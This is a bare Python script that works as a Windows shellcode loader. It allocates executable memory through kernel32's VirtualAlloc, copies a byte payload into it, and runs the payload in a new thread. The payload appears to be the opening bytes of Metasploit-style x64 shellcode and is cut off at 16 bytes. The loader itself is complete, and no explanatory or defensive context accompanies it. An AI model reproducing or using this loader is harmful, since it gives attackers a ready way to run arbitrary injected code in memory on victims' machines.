import ctypes

CODE = b"\xfc\x48\x83\xe4\xf0\xe8\xc0\x00\x00\x00\x41\x51\x41\x50\x52\x51"
kernel32 = ctypes.windll.kernel32
mem = kernel32.VirtualAlloc(None, len(CODE), 0x3000, 0x40)
kernel32.RtlMoveMemory(ctypes.c_void_p(mem), CODE, len(CODE))
thread = kernel32.CreateThread(None, 0, ctypes.c_void_p(mem), None, 0, None)
kernel32.WaitForSingleObject(thread, 0xFFFFFFFF)
